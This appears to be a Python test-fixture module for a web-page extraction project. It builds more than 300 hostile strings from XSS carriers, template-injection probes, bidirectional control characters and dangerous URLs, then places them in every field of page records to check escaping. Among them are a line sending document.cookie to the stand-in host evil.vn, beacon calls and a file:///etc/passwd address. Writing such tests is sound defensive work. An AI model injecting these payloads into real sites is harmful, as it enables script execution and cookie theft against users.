"""Pages that want more than to be read: words that browsers, templates and styles give a meaning to."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING

from handmade_pages import figure_of, money_of, page_of, record_of, statement_of

from extract.model import Reject

if TYPE_CHECKING:
    from extract.tables.rows import PageRecord

HOSTILE = [
    "<script>document.title='pwned'</script>",
    "</script><script>document.title='pwned'</script>",
    "</style><script>document.title='pwned'</script>",
    "</title><script>document.title='pwned'</script>",
    "--><script>document.title='pwned'</script><!--",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg/onload=document.title='pwned'>",
    '"><svg onload="document.title=\'pwned\'">',
    "' onmouseover='document.title=1' x='",
    '" autofocus onfocus="document.title=1" x="',
    "<iframe srcdoc=\"<script>parent.document.title='pwned'</script>\"></iframe>",
    "<base href='http://evil.vn/'>",
    "<meta http-equiv=refresh content='0;url=http://evil.vn/'>",
    "<link rel=stylesheet href=http://evil.vn/a.css>",
    "<a href='javascript:document.title=1'>23 suất</a>",
    "{{ 7 * 7 }} {% for x in range(9) %} {# 23 #} ${7*7} #{7*7}",
    "{{ ''.__class__.__mro__ }}",
    "&lt;script&gt; &#60;script&#62; &amp;",
    "]]><![CDATA[<script>1</script>]]>",
    "@import 'http://evil.vn/a.css'; url(http://evil.vn/a.png)",
    "<textarea><plaintext><xmp>",
    "`${document.title=1}`",
    "%s %(x)s {0} {x}",
]
ACTIONS = [
    "document.title='pwned'",
    "top.pwned=1",
    "fetch('http://evil.vn/?'+document.cookie)",
    "new Image().src='http://evil.vn/a.png'",
    "location='http://evil.vn/'",
    "import('http://evil.vn/a.js')",
    "eval('document.title=1')",
    "window.open('http://evil.vn/')",
    "navigator.sendBeacon('http://evil.vn/', 'x')",
]
"""What a page must never do."""
CARRIERS = [
    "<script>{}</script>",
    "<SCRIPT >{}</SCRIPT/x>",
    "</title></textarea></style></noscript></script><script>{}</script>",
    "--!><script>{}</script>",
    '<script src="data:text/javascript,{}"></script>',
    '<img src=x onerror="{}">',
    "<img/src=x/onerror={}>",
    '<svg onload="{}">',
    '<svg><animate onbegin="{}" attributeName=x dur=1s>',
    '<svg><set onbegin="{}" attributeName=x dur=1s>',
    '<body onload="{}">',
    '<details open ontoggle="{}">',
    '<video><source onerror="{}">',
    '<input autofocus onfocus="{}">',
    '<marquee onstart="{}">',
    '<iframe src="javascript:{}"></iframe>',
    '<iframe srcdoc="<script>{}</script>"></iframe>',
    '<object data="javascript:{}"></object>',
    '<a href="javascript:{}" id=x>x</a>',
    '<form action="javascript:{}"><button>x</button></form>',
    '<math><mtext></p><style><img src=x onerror="{}"></style>',
    '" onmouseover="{}" style="position:fixed;inset:0" x="',
    "' onfocus='{}' autofocus tabindex=1 x='",
    "` onload=`{}`",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e",
    '\\");{};//',
    "'-({})-'",
    "${{{{{}}}}}",
    "#{{{}}}",
    "{{{{ {} }}}}",
    "{{% {} %}}",
    "<%= {} %>",
]
"""Ways to make a browser, a template or a script of ours do it."""
BIDI = ["học\u202ebổng", "a\u2066b", "\u200f99 suất", "x\u061cy", "\u202d\u2069", "a\u2028b", "a\x85b", "a\x1bb"]
ADDRESSES = [
    "javascript:document.title='pwned'",
    "JaVaScRiPt:document.title=1",
    " javascript:alert(1)",
    "java\tscript:alert(1)",
    "javascript://phuong2.vn/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "http:evil.vn",
    "http://",
    "https:///evil.vn",
    "//evil.vn/a",
    "http://phuong2.vn@evil.vn/",
    "http://user:word@evil.vn/",
    "http://phuong2.vn/\u202egnp.exe",
    'http://phuong2.vn/"onmouseover="x',
    "http://phuong2.vn/<script>",
    "http://[broken/",
    "2015/hoc bong.html",
    "",
]


STRINGS = list(dict.fromkeys([*HOSTILE, *BIDI, *(carrier.format(act) for carrier in CARRIERS for act in ACTIONS)]))
"""More than 300 of them."""


def hostile_record(words: str, uri: str) -> PageRecord:
    """A page whose every column of text says ``words``."""
    line = f"{words} trao 23 phần trị giá 5 triệu đồng {words}"
    page = page_of([(words, "menu"), (line, None), (f"{words}\t45", None)], title=words, uri=uri)
    page = replace(
        page,
        byline=words,
        source=words,
        site=words,
        media_type=words,
        charset=words,
        page_id=f"../{words} {uri}",
        raw_sha256=words,
    )
    statement = statement_of(page, "23 phần", action=words, beneficiary=words, unit=words, rule_id=words)
    statement = replace(statement, statement_id=f"{page.page_id}-{words}")
    named = {"unit": words, "noun": words, "rule_id": words, "indicator": words, "statement_id": statement.statement_id}
    figures = (
        figure_of(page, "23 phần", 23, **named),
        figure_of(page, "5 triệu đồng", 5_000_000, kind="money", **(named | {"figure_id": words})),
    )
    record = record_of(page, figures=figures, money=(money_of(figures[1]),), statements=(statement,))
    context = replace(record.facts.context, commune=words, district=words, province=words)
    return replace(record, facts=replace(record.facts, context=context), duplicate_of=f"/{words}")


def hostile_reject(words: str) -> Reject:
    """A reject that says ``words`` throughout."""
    return Reject(words, words, words, words, 1)
